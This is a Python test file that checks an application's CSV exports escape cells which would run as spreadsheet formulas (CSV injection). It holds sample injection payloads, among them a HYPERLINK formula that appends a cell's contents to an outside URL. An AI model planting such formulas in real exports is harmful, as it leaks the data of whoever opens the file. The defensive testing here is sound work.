"""CSV injection (issue 14, item 12): every CSV Kansrijk writes escapes every cell, through one helper.

A cell that starts with ``= + - @``, a tab or a carriage return runs as a formula when a
counsellor opens the export in a spreadsheet: ``=HYPERLINK("x")`` becomes a link that
sends data elsewhere. Every writer must give such a cell a leading ``'``.
"""
from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

import safetext
from bot import experiments, facts
from bot.web import summaries
from bot.web.portal import research

REPO = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '  =HYPERLINK("x")']


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_no_formula(text: str, delimiter: str = ",") -> None:
    """Every cell is already safe: escaping it again changes nothing (a number, text, or '=...)."""
    for cell in cells(text, delimiter):
        assert safetext.csv_cell(cell) == cell, f"formula cell {cell!r}"


@pytest.mark.parametrize("value", HOSTILE)
def test_the_helper_escapes_what_a_spreadsheet_would_run(value):
    assert safetext.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.214", "-1.5e-05", "12", "< 10", "Gedeeld", "", "'=al veilig"])
def test_the_helper_leaves_numbers_and_text_alone(value):
    assert safetext.csv_cell(value) == value


def test_the_counsellor_export_escapes_every_cell():
    hostile = '=HYPERLINK("x")'
    summary = summaries.Summary(
        conversation_id=hostile, school="DEMO01", shared_at=hostile, topics=[hostile],
        items=[{"kind": "interests", "label": hostile, "lines": [hostile], "at": ""}],
    )
    text = summaries.summaries_csv([summary])
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    # The conversation column holds only the id's first 8 characters (issue 14, item 5), escaped too.
    assert row[:3] == ["'" + hostile, "'" + hostile[:8], "'" + hostile]
    assert_no_formula(text, ";")


def test_the_counsellor_export_over_http_has_no_formula_cell(client, counsellor, login, fresh_db):
    """The conversation column was written as the client sent it: =HYPERLINK(...) ran in the spreadsheet."""
    conversation = '=HYPERLINK("https://example.org/?"&A1,"klik")'
    facts.record_fact(fresh_db, conversation, "interests", {"text": '=HYPERLINK("x")'})
    facts.share_with_school(fresh_db, conversation, "DEMO01")
    login(client, counsellor.email)
    response = client.get("/portaal/gesprekken.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert len(list(csv.reader(io.StringIO(response.text), delimiter=";"))) == 2
    assert_no_formula(response.text, ";")


def test_the_experiment_csv_escapes_labels_and_keeps_numbers():
    hostile = '=HYPERLINK("x")'
    report = {
        "experiment": hostile, "outcomes": ["looked"], "outcome_labels": {"looked": "@SUM(A1)"},
        "arms": [{"arm": "framed", "label": hostile, "suppressed": False, "n": 40, "outcomes": {"looked": {
            "count": 12, "suppressed": False, "p": 0.3, "ci": (0.18, 0.45),
            "difference": {"diff": -0.052, "ci": (-0.2, 0.1), "p_value": 0.4}}}}],
    }
    text = experiments.to_csv(report)
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["experiment"] == "'" + hostile and row["arm_label"] == "'" + hostile
    assert row["outcome_label"] == "'@SUM(A1)"
    assert row["diff_vs_standard"] == "-0.052" and row["diff_ci_low"] == "-0.2"  # numbers stay numbers
    assert_no_formula(text)


def test_the_portal_research_csv_goes_through_the_same_helper():
    assert research.csv_cell is safetext.csv_cell
    text = research.safe_csv('arm,label\nstandard,"=HYPERLINK(""x"")"\n')
    assert list(csv.reader(io.StringIO(text)))[1] == ["standard", "'=HYPERLINK(\"x\")"]


def _csv_writers(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv" \
                and node.attr in ("writer", "DictWriter"):
            found.append(f"{path.relative_to(REPO)}:{node.lineno}: csv.{node.attr}")
    return found


def test_every_csv_writer_uses_the_one_helper():
    """A new export (listings, reports, ...) must write through safetext, never csv.writer itself."""
    # labour_outlook/importers.py writes the library's own data files (read back with
    # csv.DictReader, never opened in a spreadsheet): escaping would change the data.
    allowed = {REPO / "safetext" / "csv_cells.py", REPO / "labour_outlook" / "importers.py"}
    found = [
        hit
        for package in ("actions", "bot", "internships", "labour_outlook", "appdb")
        for path in sorted((REPO / package).rglob("*.py"))
        if path not in allowed
        for hit in _csv_writers(path)
    ]
    assert not found, "write CSV with safetext.writer / safetext.DictWriter:\n" + "\n".join(found)
